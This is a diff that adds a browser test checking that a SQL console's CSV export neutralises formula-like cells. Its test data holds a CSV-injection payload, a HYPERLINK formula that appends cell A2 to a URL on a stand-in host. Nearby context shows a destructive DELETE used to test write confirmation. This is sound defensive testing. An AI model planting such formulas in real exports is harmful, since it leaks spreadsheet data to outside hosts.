@@ -131,6 +131,22 @@ test('an error shows its message at its place, and the last result stays', { tim
   assert.deepEqual(await firstRow(page, 'first_part'), { first_part: '1' });
 });
 
+test('the console CSV neutralises formula-like text; the raw switch writes it as stored', { timeout: 60_000 }, async () => {
+  const { page } = app;
+  await openConsole(page);
+  await runSql(page, `select '=HYPERLINK("https://example.com/?"&A2,"x")' as formula_cell, '-5' as number_text, -5 as number_cell, '@SUM(1)' as at_cell`);
+  await firstRow(page, 'formula_cell');
+  const csv = async () => {
+    const download = page.waitForEvent('download');
+    await page.getByTestId('sql-download-csv').click();
+    return readFile(await (await download).path(), 'utf8');
+  };
+  assert.equal(await csv(), `formula_cell,number_text,number_cell,at_cell\n"'=HYPERLINK(""https://example.com/?""&A2,""x"")",-5,-5,'@SUM(1)\n`);
+  await page.getByTestId('sql-result').getByTestId('csv-raw').check();
+  assert.equal(await csv(), 'formula_cell,number_text,number_cell,at_cell\n"=HYPERLINK(""https://example.com/?""&A2,""x"")",-5,-5,@SUM(1)\n');
+  await page.getByTestId('sql-result').getByTestId('csv-raw').uncheck();
+});
+
 test('writes ask first and change a scratch copy only; dropping stored tables is refused', { timeout: 60_000 }, async () => {
   const { page } = app;
   await runSql(page, 'delete from gold.fact_sales', 'confirm');
